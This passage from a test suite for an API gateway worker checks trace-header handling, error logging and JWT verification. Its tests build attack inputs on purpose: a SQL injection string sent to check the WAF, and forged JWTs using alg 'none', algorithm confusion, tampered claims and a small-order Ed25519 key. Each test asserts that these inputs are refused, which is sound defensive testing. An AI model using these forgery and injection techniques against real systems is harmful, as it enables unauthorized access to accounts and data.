      assert.equal(n.headers.get("x-trace-id"), fresh.split("-")[1], "the response exposes the trace id");
    }
  });

  test("the gateway's own 404 and 405 answers say the trace they are part of and the edge's Server-Timing, as its other answers do", async () => {
    const parent = "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01";
    for (const [path, method, status] of [["/gw/nothing-here", "GET", 404], ["/gw/open/t", "PATCH", 405]]) {
      const r = await worker.fetch(path, { method, headers: { traceparent: parent } });
      assert.equal(r.status, status);
      assert.equal((await r.json()).error.code, status === 404 ? "not_found" : "method_not_allowed");
      assert.equal(r.headers.get("x-trace-id"), "4bf92f3577b34da6a3ce929d0e0e4736", `${status}: the caller's trace continued`);
      assert.match(r.headers.get("traceparent") ?? "", /^00-4bf92f3577b34da6a3ce929d0e0e4736-[0-9a-f]{16}-01$/, `${status}`);
      assert.match(r.headers.get("server-timing") ?? "", /edge;dur=\d+/, `${status}`);
    }
  });

  test("every answer the gateway refuses or fails with itself names its error code on the request's log line", async (t) => {
    // Workers Logs show the lines, not the bodies: a 401, 403, 502 or 504 logged without its code left an operator
    // unable to tell a missing token from a WAF block or an origin down without calling the route again.
    const noAdmin = token(keys, "ed1", { permissions: ["read"] });
    const cases = [
      ["no-token", "/gw/secure", {}, 401],
      ["bad-token", "/gw/secure", { headers: bearer("not.a.token") }, 401],
      ["no-permission", "/gw/secure/admin", { headers: bearer(noAdmin) }, 403],
      ["waf", "/gw/open/search?q=" + encodeURIComponent("x' union select password from users--"), {}, 403],
      ["origin-down", "/gw/nowhere", {}, 502],
      ["no-route", "/gw/nothing-here", {}, 404],
      ["origin-slow", "/gw/slow/late", {}, 504],
    ];
    origin.handle(async (req, body, res) => {
      await delay(1500);
      res.end("late");
    });
    t.after(() => origin.reset());
    for (const [label, path, init, status] of cases) {
      const requestId = `error-code-line-${label}`;
      const r = await worker.fetch(path, { ...init, headers: { ...init.headers, "x-request-id": requestId } });
      assert.equal(r.status, status, label);
      const { code } = (await r.json()).error;
      assert.match(r.headers.get("traceparent") ?? "", /^00-/, `${label}: the answer still says its trace`);
      const line = await until(() => worker.jsonLogs().find((l) => l.msg === "request" && l.request_id === requestId), {
        what: `the request line of ${label}`,
      });
      assert.equal(line.status, status, label);
      assert.equal(line.error_code, code, `${label}: the line names the answer's code`);
    }
  });

  test("a route written with a literal % still serves the requests for it (matched as %25 since the normaliser writes it so)", async (t) => {
    const own = await startOrigin();
    t.after(() => own.stop());
    const routes = [{ name: "promo", path: "/promo/50%off", upstream: own.url, strip_prefix: "/promo" }];
    const w = await startWorker({ vars: { GATEWAY_ROUTES: routes } });
    try {
      for (const path of ["/promo/50%off", "/promo/50%25off/x"]) {
        const r = await w.fetch(path);
        assert.equal(r.status, 200, path);
        await r.arrayBuffer();
      }
      assert.deepEqual(own.requests.map((r) => r.url), ["/50%25off", "/50%25off/x"], "the % an origin decoding once reads");
    } finally {
      await w.stop();
    }
  });

  test("a route written with a character every request escapes (é, a space, \", <, >, `) serves the requests for it", async (t) => {
    const own = await startOrigin();
    t.after(() => own.stop());
    const routes = [
      { name: "cafe", path: "/docs/café", upstream: own.url, strip_prefix: "/docs/café" },
      { name: "spaced", path: "/my docs/a\"b<c>d`e", upstream: own.url },
    ];
    const w = await startWorker({ vars: { GATEWAY_ROUTES: routes } });
    try {
      // fetch escapes them as a browser does: /docs/caf%C3%A9/x, /my%20docs/a%22b%3Cc%3Ed%60e.
      for (const path of ["/docs/café/x", "/docs/caf%c3%a9", "/my docs/a\"b<c>d`e"]) {
        const r = await w.fetch(path);
        assert.equal(r.status, 200, `${path}: ${r.status} ${await r.clone().text()}`);
        await r.arrayBuffer();
      }
      assert.deepEqual(own.requests.map((r) => r.url), ["/x", "/", "/my%20docs/a%22b%3Cc%3Ed%60e"]);
    } finally {
      await w.stop();
    }
  });

  test("a tracestate goes on only as a valid list of at most 32 members, cut to 512 bytes; two traceparent fields start a new trace", async (t) => {
    const own = await startOrigin();
    t.after(() => own.stop());
    const w = await startWorker({ vars: { GATEWAY_ROUTES: [{ name: "o", path: "/o", upstream: own.url }] } });
    try {
      const parent = "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01";
      const sent = async (tracestate) => {
        const r = await w.fetch("/o/t", { headers: { traceparent: parent, tracestate } });
        assert.equal(r.status, 200);
        await r.arrayBuffer();
        const seen = own.requests.at(-1).headers;
        assert.match(seen.traceparent, /^00-4bf92f3577b34da6a3ce929d0e0e4736-/, "the trace is continued whatever its state");
        return seen.tracestate;
      };
      assert.equal(await sent("rojo=00f067aa0ba902b7,congo=t61rcWkgMzE"), "rojo=00f067aa0ba902b7,congo=t61rcWkgMzE");
      // W3C trace-context test suite (test_tracestate_duplicated_keys, _key_illegal_characters, _member_count_limit):
      // discarded whole.
      const members = (n) => Array.from({ length: n }, (_, i) => `k${i}=v`).join(",");
      assert.equal(await sent(members(32)), members(32), "32 members are a valid list");
      for (const bad of ["foo=1,foo=2", "FOO=1", "foo.bar=1", "foo@=1,bar=2", members(33)]) {
        assert.equal(await sent(bad), undefined, bad);
      }
      const long = Array.from({ length: 30 }, (_, i) => `k${String(i).padStart(2, "0")}=${"v".repeat(20)}`);
      assert.equal(await sent(long.join(",")), long.slice(0, 20).join(","), "cut at the end, whole members, to 512 bytes");

      // Two traceparent fields on the wire, which the runtime joins with ", ": a new trace, its tracestate dropped.
      const { hostname, port } = new URL(w.url);
      const sock = connect(Number(port), hostname);
      await new Promise((resolve, reject) => sock.once("connect", resolve).once("error", reject));
      sock.on("error", () => {});
      sock.resume();
      sock.write("GET /o/twice HTTP/1.1\r\nHost: x\r\n" +
        "traceparent: cc-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01-future\r\n" +
        "traceparent: 00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01\r\n" +
        "tracestate: congo=t61rcWkgMzE\r\n\r\n");
      const twice = await until(() => own.requests.find((r) => r.url === "/o/twice"), { what: "the origin's record of the request" });
      sock.destroy();
      const trace = twice.headers.traceparent.split("-")[1];
      assert.ok(!["4bf92f3577b34da6a3ce929d0e0e4736", "0af7651916cd43dd8448eb211c80319c"].includes(trace), twice.headers.traceparent);
      assert.equal(twice.headers.tracestate, undefined);
    } finally {
      await w.stop();
    }
  });

  test("GATEWAY_TRACE_SAMPLE_PERCENT 0: the traces the edge starts reach the origin unsampled, a caller's decision stands", async (t) => {
    const own = await startOrigin();
    t.after(() => own.stop());
    const w = await startWorker({ vars: { GATEWAY_ROUTES: [{ name: "o", path: "/o", upstream: own.url }], GATEWAY_TRACE_SAMPLE_PERCENT: 0 } });
    try {
      const sent = async (headers) => {
        const r = await w.fetch("/o/t", { headers });
        assert.equal(r.status, 200);
        await r.arrayBuffer();
        return own.requests.at(-1).headers.traceparent;
      };
      for (let i = 0; i < 3; i++) assert.match(await sent({}), /^00-[0-9a-f]{32}-[0-9a-f]{16}-00$/, "a new trace, not sampled");
      const parent = "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01";
      assert.match(await sent({ traceparent: parent }), /^00-4bf92f3577b34da6a3ce929d0e0e4736-[0-9a-f]{16}-01$/, "the caller sampled it");
    } finally {
      await w.stop();
    }
  });
});

describe("JWT", () => {
  test("each algorithm verifies and identity headers come from the verified claims", async () => {
    for (const kid of ["ed1", "rsa1", "ec1", "hs1"]) {
      origin.reset();
      const t = token(keys, kid, { sub: `user-${kid}`, permissions: ["read", "write"] });
      const r = await worker.fetch("/gw/secure", { headers: { ...bearer(t), "x-user-id": "spoofed" } });
      assert.equal(r.status, 200, kid);
      await r.arrayBuffer();
      assert.equal(lastRequest().headers["x-user-id"], `user-${kid}`, kid);
      assert.equal(lastRequest().headers["x-user-permissions"], "read,write", kid);
    }
    const leeway = await worker.fetch("/gw/secure", { headers: bearer(token(keys, "ed1", { exp: Math.floor(Date.now() / 1000) - 5 })) });
    assert.equal(leeway.status, 200, "an expiry within the leeway is accepted");
    await leeway.arrayBuffer();
  });

  test("the rejection corpus: every class answers 401 with its description (or 403 for a missing permission)", async () => {
    const now = Math.floor(Date.now() / 1000);
    const other = makeKeys("other-");
    const rsaPem = keys.rsa1.publicJwk.n;
    const hsWith = (secret) => (input) => signWith("HS256", { secret }, input);
    const validEd = token(keys, "ed1");
    const [h, c, s] = validEd.split(".");
    // A genuine ES256 signature by the right key, in DER form instead of JWS's raw r||s (RFC 7518 §3.4).
    const derSigner = (input) => sign("sha256", Buffer.from(input), { key: keys.ec1.privateKey, dsaEncoding: "der" });
    const cases = [
      ["no header", {}, "missing bearer token"],
      ["basic auth", { authorization: "Basic dXNlcjpwYXNz" }, "authorization is not a bearer token"],
      ["empty bearer", { authorization: "Bearer " }, "authorization is not a bearer token"],
      ["alg none", bearer(`${json64({ alg: "none", kid: "ed1" })}.${c}.`), "algorithm none is not accepted"],
      ["alg NONE", bearer(`${json64({ alg: "NONE", kid: "ed1" })}.${c}.`), "algorithm none is not accepted"],
      ["RS256 key used as HMAC secret", bearer(token(keys, "rsa1", {}, { alg: "HS256", signer: hsWith(rsaPem) })), "algorithm HS256 is not allowed for this key"],
      ["RS256 header on HMAC key", bearer(token(keys, "hs1", {}, { alg: "RS256", signer: (i) => signWith("RS256", keys.rsa1, i) })), "algorithm RS256 is not allowed for this key"],
      ["ES256 header on Ed25519 key", bearer(token(keys, "ed1", {}, { alg: "ES256", signer: (i) => signWith("ES256", keys.ec1, i) })), "algorithm ES256 is not allowed for this key"],
      ["EdDSA header on EC key", bearer(token(keys, "ec1", {}, { alg: "EdDSA", signer: (i) => signWith("EdDSA", keys.ed1, i) })), "algorithm EdDSA is not allowed for this key"],
      ["unsupported HS512", bearer(token(keys, "hs1", {}, { alg: "HS512" })), "algorithm HS512 is not supported"],
      ["missing kid, several keys", bearer(token(keys, "ed1", {}, { header: { kid: undefined } })), "token has no kid and several keys exist"],
      ["unknown kid", bearer(token(keys, "ed1", {}, { header: { kid: "nope" } })), "unknown key id"],
      ["bad base64 header", bearer(`@@@.${c}.${s}`), "token is not valid base64url"],
      ["bad base64 signature", bearer(`${h}.${c}.***`), "token is not valid base64url"],
      ["header not JSON", bearer(`${b64url("{alg:")}.${c}.${s}`), "token header is not valid JSON"],
      // Both were "malformed" / "not valid JSON" about a header that is JSON: the description names what is wrong.
      ["nested JWT (cty)", bearer(token(keys, "ed1", {}, { header: { cty: "JWT" } })), "token content type (cty) is a nested JWT, which is not accepted"],
      ["kid named twice", bearer(`${b64url('{"alg":"EdDSA","kid":"ed1","kid":"ec1"}')}.${c}.${s}`), "token header parameter kid appears more than once"],
      ["claims not JSON", bearer((() => { const hh = json64({ alg: "HS256", kid: "hs1" }); const cc = b64url("[1,2"); return `${hh}.${cc}.${b64url(signWith("HS256", keys.hs1, `${hh}.${cc}`))}`; })()), "token claims are not valid JSON"],
      ["two parts", bearer(`${h}.${c}`), "token is malformed"],
      ["four parts", bearer(`${h}.${c}.${s}.x`), "token is malformed"],
      ["over 8 KB", bearer(token(keys, "ed1", { padding: "x".repeat(9000) })), "token exceeds 8192 bytes"],
      ["EdDSA signed by another key", bearer(token(keys, "ed1", {}, { signer: (i) => signWith("EdDSA", other["other-ed1"], i) })), "signature is invalid"],
      ["RS256 signed by another key", bearer(token(keys, "rsa1", {}, { signer: (i) => signWith("RS256", other["other-rsa1"], i) })), "signature is invalid"],
      ["ES256 signed by another key", bearer(token(keys, "ec1", {}, { signer: (i) => signWith("ES256", other["other-ec1"], i) })), "signature is invalid"],
      ["HS256 signed with another secret", bearer(token(keys, "hs1", {}, { signer: (i) => signWith("HS256", other["other-hs1"], i) })), "signature is invalid"],
      ["ES256 with a DER-length signature", bearer(token(keys, "ec1", {}, { signer: derSigner })), "signature is invalid"],
      ["claims tampered after signing", bearer(`${h}.${json64({ ...JSON.parse(Buffer.from(c, "base64url")), sub: "admin" })}.${s}`), "signature is invalid"],
      ["empty signature", bearer(`${h}.${c}.`), "signature is invalid"],
      ["expired", bearer(token(keys, "ed1", { exp: now - 3600 })), "token has expired"],
      ["no exp", bearer(token(keys, "ed1", { exp: undefined })), "token has no exp"],
      ["not yet valid", bearer(token(keys, "ed1", { nbf: now + 3600 })), "token is not valid yet"],
      ["issued in the future", bearer(token(keys, "rsa1", { iat: now + 3600 })), "token is issued in the future"],
      ["wrong issuer", bearer(token(keys, "ec1", { iss: "someone-else" })), "issuer is not accepted"],
      ["no issuer", bearer(token(keys, "hs1", { iss: undefined })), "issuer is not accepted"],
      ["wrong audience", bearer(token(keys, "ed1", { aud: "other-api" })), "audience is not accepted"],
      ["audience list without ours", bearer(token(keys, "ed1", { aud: ["a", "b"] })), "audience is not accepted"],
      ["no subject", bearer(token(keys, "ed1", { sub: undefined })), "token has no subject"],
      ["exp as a string", bearer(token(keys, "ed1", { exp: "tomorrow" })), "token claim exp is not a time in seconds"],
      // RFC 8725 §3.11: another kind of JWT from the same issuer is no access token (`JWT` and `at+jwt` are).
      ["typed as a DPoP proof", bearer(token(keys, "ed1", {}, { header: { typ: "dpop+jwt" } })), "token type (typ) is not JWT or at+jwt: it is no access token"],
      ["typed as a logout token", bearer(token(keys, "ed1", {}, { header: { typ: "application/logout+jwt" } })), "token type (typ) is not JWT or at+jwt: it is no access token"],
    ];
    let count = 0;
    // A request without a bearer token gets the bare challenge (RFC 6750 §3.1: no error code for a client that sent
    // no credentials, or another scheme); the JSON says why.
    const sentNone = new Set(["no header", "basic auth", "empty bearer"]);
    for (const [name, headers, description] of cases) {
      const r = await worker.fetch("/gw/secure", { headers });
      assert.equal(r.status, 401, name);
      const body = await r.json();
      if (sentNone.has(name)) {
        assert.equal(r.headers.get("www-authenticate"), "Bearer", name);
        assert.equal(body.error.message, description, name);
      } else {
        assert.equal(describeOf(r), description, name);
        assert.match(r.headers.get("www-authenticate"), /^Bearer error="invalid_token"/, name);
      }
      assert.equal(body.error.code, "invalid_token", name);
      count += 1;
    }
    const forbidden = await worker.fetch("/gw/secure/admin", { headers: bearer(token(keys, "ed1", { permissions: ["read"] })) });
    assert.equal(forbidden.status, 403);
    assert.equal(forbidden.headers.get("www-authenticate"), 'Bearer error="insufficient_scope"', "the token lacks what the route needs");
    assert.equal((await forbidden.json()).error.code, "missing_permission");
    count += 1;
    const allowed = await worker.fetch("/gw/secure/admin", { headers: bearer(token(keys, "ed1", { permissions: ["admin"] })) });
    assert.equal(allowed.status, 200);
    await allowed.arrayBuffer();
    // An RFC 9068 access token (`typ: at+jwt`, in either spelling) is what a route takes.
    for (const typ of ["at+jwt", "application/at+jwt"]) {
      const typed = await worker.fetch("/gw/secure", { headers: bearer(token(keys, "ed1", {}, { header: { typ } })) });
      assert.equal(typed.status, 200, `${typ}: ${describeOf(typed)}`);
      await typed.arrayBuffer();
    }
    assert.ok(count >= 30, `corpus has ${count} cases`);
    console.log(`# JWT rejection corpus: ${count} cases`);
    // Ed25519 signatures were checked by the runtime's WebCrypto: the gateway says so once when it has to fall
    // back to verifying in wasm, and it never did (the EdDSA cases above passed and failed on WebCrypto verdicts).
    assert.equal(worker.jsonLogs().filter((l) => /webcrypto/.test(l.msg ?? "")).length, 0, "no WebCrypto fallback");
  });

  test("a token whose header says alg Ed25519 (RFC 9864) verifies against an Ed25519 key, and against no other key type", async () => {
    // RFC 9864 registers `Ed25519` as the fully-specified JWS algorithm for EdDSA on that curve; the JWKS side already
    // took it as a key's `alg`, while a token naming it was refused ("algorithm Ed25519 is not supported").
    const asEd25519 = (keySet, kid, claimOverrides = {}, signer) =>
      token(keySet, kid, claimOverrides, { alg: "Ed25519", signer: signer ?? ((i) => signWith("EdDSA", keySet[kid], i)) });
    const viaEdDsaKey = await worker.fetch("/gw/secure", { headers: bearer(asEd25519(keys, "ed1", { sub: "fully-specified" })) });
    assert.equal(viaEdDsaKey.status, 200, describeOf(viaEdDsaKey));
    await viaEdDsaKey.arrayBuffer();
    assert.equal(lastRequest().headers["x-user-id"], "fully-specified");
    // A key published as WebCrypto exports it (`alg: "Ed25519"`) verifies both spellings.
    const fresh = makeKeys("fully-");
    const doc = jwksOf({ "fully-ed1": fresh["fully-ed1"] });
    doc.keys[0].alg = "Ed25519";
    await kv.put("jwks", JSON.stringify(await keepingOthers(doc)));
    await until(async () => {
      const r = await worker.fetch("/gw/secure", { headers: bearer(token(fresh, "fully-ed1")) });
      await r.arrayBuffer();
      return r.status === 200;
    }, { what: "the Ed25519 key to be read" });
    const viaEd25519Key = await worker.fetch("/gw/secure", { headers: bearer(asEd25519(fresh, "fully-ed1")) });
    assert.equal(viaEd25519Key.status, 200, describeOf(viaEd25519Key));
    await viaEd25519Key.arrayBuffer();
    // Alg confusion stays refused: the name picks no other key type, and a signature by another key stays invalid.
    const other = makeKeys("other-");
    for (const [name, kid, description] of [
      ["Ed25519 header on an RSA key", "rsa1", "algorithm Ed25519 is not allowed for this key"],
      ["Ed25519 header on an EC key", "ec1", "algorithm Ed25519 is not allowed for this key"],
      ["Ed25519 header on an HMAC key", "hs1", "algorithm Ed25519 is not allowed for this key"],
    ]) {
      const r = await worker.fetch("/gw/secure", { headers: bearer(asEd25519(keys, kid, {}, (i) => signWith("EdDSA", keys.ed1, i))) });
      assert.equal(r.status, 401, name);
      assert.equal(describeOf(r), description, name);
      await r.arrayBuffer();
    }
    const forged = await worker.fetch("/gw/secure", { headers: bearer(asEd25519(keys, "ed1", {}, (i) => signWith("EdDSA", other["other-ed1"], i))) });
    assert.equal(forged.status, 401);
    assert.equal(describeOf(forged), "signature is invalid");
    await forged.arrayBuffer();
    // Only that exact spelling: JOSE algorithm names are case-sensitive.
    const lower = await worker.fetch("/gw/secure", { headers: bearer(token(keys, "ed1", {}, { alg: "ed25519", signer: (i) => signWith("EdDSA", keys.ed1, i) })) });
    assert.equal(lower.status, 401);
    assert.equal(describeOf(lower), "algorithm ed25519 is not supported");
    await lower.arrayBuffer();
  });

  test("claims of the wrong type are refused naming the claim; a permission listed twice reaches the origin once", async () => {
    // Before, every one of these said "token claims are not valid JSON" — about claims that were valid JSON.
    const cases = [
      ["permissions null", { permissions: null }, "token claim permissions is not a list of strings"],
      ["permissions a string", { permissions: "read" }, "token claim permissions is not a list of strings"],
      ["permissions a number", { permissions: 7 }, "token claim permissions is not a list of strings"],
      ["permissions an object", { permissions: { read: true } }, "token claim permissions is not a list of strings"],
      ["permissions holding a number", { permissions: ["read", 1] }, "token claim permissions is not a list of strings"],
      ["permissions holding null", { permissions: ["read", null] }, "token claim permissions is not a list of strings"],
      ["permissions holding a list", { permissions: [["read"]] }, "token claim permissions is not a list of strings"],
      ["sub a number", { sub: 42 }, "token claim sub is not a string"],
      ["email a list", { email: ["a@example.com"] }, "token claim email is not a string"],
      ["iss a number", { iss: 1 }, "token claim iss is not a string"],
      ["aud a number", { aud: 1 }, "token claim aud is not a string or a list of strings"],
      ["aud holding a number", { aud: ["edgekit-api", 1] }, "token claim aud is not a string or a list of strings"],
      ["exp a string", { exp: "tomorrow" }, "token claim exp is not a time in seconds"],
      ["exp null", { exp: null }, "token claim exp is not a time in seconds"],
      ["nbf past the calendar", { nbf: 1e300 }, "token claim nbf is not a time in seconds"],
      ["iat a boolean", { iat: true }, "token claim iat is not a time in seconds"],
    ];
    for (const [name, overrides, description] of cases) {
      const r = await worker.fetch("/gw/secure", { headers: bearer(token(keys, "ed1", overrides)) });
      assert.equal(r.status, 401, name);
      assert.equal(describeOf(r), description, name);
      assert.equal((await r.json()).error.message, description, name);
    }
    // Claims that are no JSON object at all still say so.
    const hh = json64({ alg: "HS256", kid: "hs1" });
    const cc = b64url("[1,2]");
    const list = await worker.fetch("/gw/secure", { headers: bearer(`${hh}.${cc}.${b64url(signWith("HS256", keys.hs1, `${hh}.${cc}`))}`) });
    assert.equal(describeOf(list), "token claims are not a JSON object");
    await list.arrayBuffer();
    // A permission named twice is the same permission: the origin is told it once.
    origin.reset();
    const twice = await worker.fetch("/gw/secure", { headers: bearer(token(keys, "ed1", { permissions: ["read", "write", "read"] })) });
    assert.equal(twice.status, 200, describeOf(twice));
    await twice.arrayBuffer();
    assert.equal(lastRequest().headers["x-user-permissions"], "read,write");
  });

  test("untrusted JWKS keys are skipped: a small-order Ed25519 key (whose forged signature is refused), keys meant for other uses and one published with its private half", async () => {
    // The identity point verifies R = identity, S = 0 over any message in verifiers without a small-order check.
    const identity = Buffer.alloc(32);
    identity[0] = 1;
    const fresh = makeKeys("weak-test-");
    const doc = jwksOf(keys, fresh);
    doc.keys.push({ kty: "OKP", crv: "Ed25519", x: b64url(identity), kid: "weak", alg: "EdDSA", use: "sig" });
    // Sound keys that say they are not for verifying signatures (RFC 7517 `use`, `key_ops`).
    const misuse = makeKeys("misuse-");
    const ed = misuse["misuse-ed1"].publicJwk;
    doc.keys.push({ ...ed, kid: "for-encryption", alg: "EdDSA", use: "enc" });
    doc.keys.push({ ...ed, kid: "sign-only", alg: "EdDSA", key_ops: ["sign"] });
    // A key published with its private half (`d`): whoever reads the key set can sign with it.
    doc.keys.push({ ...misuse["misuse-ed1"].privateKey.export({ format: "jwk" }), kid: "exposed", alg: "EdDSA", use: "sig" });
    await kv.put("jwks", JSON.stringify(await keepingOthers(doc)));
    // The document was re-read once a key only it holds is accepted.
    await until(async () => {
      const r = await worker.fetch("/gw/secure", { headers: bearer(token(fresh, "weak-test-ed1")) });
      await r.arrayBuffer();
      return r.status === 200;
    }, { what: "the new key set to be read" });
    const forged = token({ weak: { alg: "EdDSA" } }, "weak", {}, { signer: () => Buffer.concat([identity, Buffer.alloc(32)]) });
    const r = await worker.fetch("/gw/secure", { headers: bearer(forged) });
    assert.equal(r.status, 401);
    assert.equal(describeOf(r), "unknown key id");
    await r.arrayBuffer();
    for (const kid of ["for-encryption", "sign-only", "exposed"]) {
      // Genuinely signed by the key's private half: refused because the key is not published for verifying (or is
      // published with its private half).
      const signed = token({ [kid]: misuse["misuse-ed1"] }, kid);
      const refused = await worker.fetch("/gw/secure", { headers: bearer(signed) });
      assert.equal(refused.status, 401, kid);
      assert.equal(describeOf(refused), "unknown key id", kid);
      await refused.arrayBuffer();
    }
    const skipped = worker.jsonLogs().filter((l) => l.msg === "jwks keys skipped");
    // The operator's line names the request whose read of the key set found them (observability::log).
    for (const line of skipped) assert.ok(typeof line.request_id === "string" && line.request_id !== "", JSON.stringify(line));
    // Why, in words, is detail, as in every line (one query finds them all).
    const reasons = skipped.map((l) => l.detail);
    assert.ok(reasons.some((p) => /use "enc" is not sig/.test(p)), JSON.stringify(reasons));
    assert.ok(reasons.some((p) => /key_ops \["sign"\] does not include verify/.test(p)), JSON.stringify(reasons));
    assert.ok(reasons.some((p) => /weak or non-canonical Ed25519 key/.test(p)), JSON.stringify(reasons));
    assert.ok(reasons.some((p) => /private key member d present/.test(p)), JSON.stringify(reasons));
  });

  test("a cold isolate's concurrent first requests share one JWKS read; a failed one fails them all and the next request reads again", async (t) => {
    // Before, each request arriving before the isolate had a key set read and parsed KV itself. Reads are counted
    // by the isolate (GET /__debug/coalesce), in an isolate of its own that has read nothing yet.
    // No hold after a failed read (GATEWAY_JWKS_HOLD_MS 0): the next requests read again at once, as this counts.
    const cold = await startWorker({
      vars: { GATEWAY_ROUTES: [{ name: "secure", path: "/gw/secure", upstream: origin.url, auth: "jwt" }], GATEWAY_JWKS_HOLD_MS: 0 },
    });
    t.after(() => cold.stop());
    const coldKv = await cold.mf.getKVNamespace("CONFIG_KV");
    const fresh = makeKeys("cold-");
    const burst = (n) =>
      Promise.all(Array.from({ length: n }, async () => {
        const r = await cold.fetch("/gw/secure", { headers: bearer(token(fresh, "cold-ed1")) });
        const body = await r.text();
        return r.status === 200 ? 200 : `${r.status} ${JSON.parse(body).error.code}`;
      }));
    const reads = async () => (await (await cold.fetch("/__debug/coalesce")).json()).jwks_reads;

    // A document that is no JWKS: a read fails every request waiting for it (closed), and nothing is kept. (How
    // many reads that takes depends on how the requests overlap: each arriving after a read failed reads again.)
    await coldKv.put("jwks", JSON.stringify({ keys: "none" }));
    assert.deepEqual(await burst(8), Array(8).fill("500 internal_error"), "a failed first read fails closed");
    const failed = await reads();
    assert.ok(failed >= 1 && failed <= 8, `reads of the bad document: ${failed}`);
    // Still cold: the next requests read again, and all of them wait for that one read — those arriving after it
    // use its set — however they overlap.
    await coldKv.put("jwks", JSON.stringify(jwksOf(fresh)));
    assert.deepEqual(await burst(12), Array(12).fill(200), "the next requests read again, and pass");
    assert.equal(await reads(), failed + 1, "12 concurrent requests to a cold isolate: one read of KV");
  });

  test("a missing JWKS document is the deployment's fault: 500, not a 401 telling the client its token is invalid, and it is read again", async (t) => {
    const bare = await startWorker({ vars: { GATEWAY_ROUTES: [{ name: "secure", path: "/gw/secure", upstream: origin.url, auth: "jwt" }] } });
    t.after(() => bare.stop());
    const age = async (ms) => assert.equal((await bare.fetch(`/__debug/jwks/age?ms=${ms}`, { method: "POST" })).status, 200);
    const fresh = makeKeys("bare-");
    const asked = () => bare.fetch("/gw/secure", { headers: bearer(token(fresh, "bare-ed1")) });
    const missing = await asked();
    const body = await missing.json();
    assert.equal(missing.status, 500, JSON.stringify(body));
    assert.equal(body.error.code, "internal_error");
    assert.equal(missing.headers.get("www-authenticate"), null, "the token is not blamed");
    // Nothing was kept: once the document is written, the first request after the failed read's hold (1 s, seen
    // lapsed through the debug route) reads it.
    await (await bare.mf.getKVNamespace("CONFIG_KV")).put("jwks", JSON.stringify(jwksOf(fresh)));
    await age(1000);
    const published = await asked();
    assert.equal(published.status, 200, describeOf(published));
    await published.arrayBuffer();
  });

  // A document over 128 KiB (in bytes) is refused unparsed, as one that is no JWKS: before, any size was parsed on
  // each read (10,000 RSA keys took seconds of CPU), and that one was taken as a rotation. Filled with copies of a
  // key under other kids, of two-byte characters: under the bound in characters, over it in bytes.
  const oversized = (keys, rsa) => {
    const doc = jwksOf(keys);
    for (let i = 0; Buffer.byteLength(JSON.stringify(doc)) <= 128 * 1024; i++) doc.keys.push({ ...keys[rsa].publicJwk, kid: `${"é".repeat(8)}${i}` });
    const text = JSON.stringify(doc);
    assert.ok(text.length <= 128 * 1024, "fits in characters");
    return [text, new RegExp(`JWKS: document of ${Buffer.byteLength(text)} bytes; at most 131072 are read`)];
  };
  for (const [what, broken] of [
    ["rewritten broken", () => ['{"keys": [', /JWKS: not a JWKS document/]],
    ["grown past 128 KiB", (keys) => oversized(keys, "grace-rsa1")],
  ]) test(`a JWKS document ${what} keeps the last set read in use for its TTL again, logged, then answers 500`, async (t) => {
    // Before, the first re-read after the TTL failed and every bearer token was answered 500 from then on: one bad
    // write of the document took every JWT route down within a TTL. The TTL, its grace and the failed read's hold
    // are long, and seen lapsing through the debug route that ages the isolate's memory of the key set: no poll has
    // to land in a window of the clock.
    const TTL_MS = 60_000;
    const HOLD_MS = 300_000;
    const own = await startWorker({
      vars: {
        GATEWAY_ROUTES: [{ name: "secure", path: "/gw/secure", upstream: origin.url, auth: "jwt" }],
        GATEWAY_JWKS_TTL_SECONDS: TTL_MS / 1000,
        GATEWAY_JWKS_HOLD_MS: HOLD_MS,
      },
    });
    t.after(() => own.stop());
    const ownKv = await own.mf.getKVNamespace("CONFIG_KV");
    const fresh = makeKeys("grace-");
    const asked = async () => {
      const r = await own.fetch("/gw/secure", { headers: bearer(token(fresh, "grace-ed1")) });
      const body = await r.text();
      return r.status === 200 ? 200 : `${r.status} ${JSON.parse(body).error.code}`;
    };
    const reads = async () => (await (await own.fetch("/__debug/coalesce")).json()).jwks_reads;
    const age = async (ms) => assert.equal((await own.fetch(`/__debug/jwks/age?ms=${ms}`, { method: "POST" })).status, 200);
    const lent = () => own.jsonLogs().filter((l) => l.msg === "jwks read failed; the last key set read is used");
    const [document, cause] = broken(fresh);
    await ownKv.put("jwks", JSON.stringify(jwksOf(fresh)));
    assert.equal(await asked(), 200);
    const good = await reads();
    await ownKv.put("jwks", document);
    assert.equal(await asked(), 200, "within the TTL: not read");
    assert.equal(await reads(), good);
    // The TTL lapses: the next request re-reads the document, finds it broken, and is lent the last set read.
    await age(TTL_MS);
    assert.equal(await asked(), 200, "the last set read is lent while the document is broken");
    assert.equal(await reads(), good + 1);
    const line = await until(() => lent()[0], { what: "the warning that the key set is lent" });
    assert.match(line.detail, cause);
    // For the failed read's hold, the requests after it are lent the set without reading KV or writing a line.
    for (let i = 0; i < 3; i++) assert.equal(await asked(), 200);
    assert.equal(await reads(), good + 1, "no read during the hold");
    assert.equal(lent().length, 1);
    // Past twice the TTL from the set's read (and the hold): the deployment's fault is answered.
    await age(TTL_MS + HOLD_MS);
    assert.equal(await asked(), "500 internal_error");
    assert.equal(await reads(), good + 2);
    const failed = await until(() => own.jsonLogs().find((l) => l.msg === "request" && l.status === 500), { what: "the 500's request line" });
    assert.match(failed.detail, cause);
    await ownKv.put("jwks", JSON.stringify(jwksOf(fresh)));
    await age(HOLD_MS);
    assert.equal(await asked(), 200, "a valid document is used by the first request after the hold");
  });

  test("a broken or missing JWKS document costs one KV read per hold, not one per JWT request", async (t) => {
    // Before, with no set to lend (a cold isolate, or past the grace), every JWT request read KV again while the
    // document was broken or missing, each answered 500: a traffic spike became as many KV reads. Reads are counted
    // by the isolate (GET /__debug/coalesce); the hold is long, and seen lapsing through the debug route.
    const HOLD_MS = 300_000;
    const own = await startWorker({
      vars: { GATEWAY_ROUTES: [{ name: "secure", path: "/gw/secure", upstream: origin.url, auth: "jwt" }], GATEWAY_JWKS_HOLD_MS: HOLD_MS },
    });
    t.after(() => own.stop());
    const ownKv = await own.mf.getKVNamespace("CONFIG_KV");
    const fresh = makeKeys("held-");
    const asked = async () => {
      const r = await own.fetch("/gw/secure", { headers: bearer(token(fresh, "held-ed1")) });
      const body = await r.text();
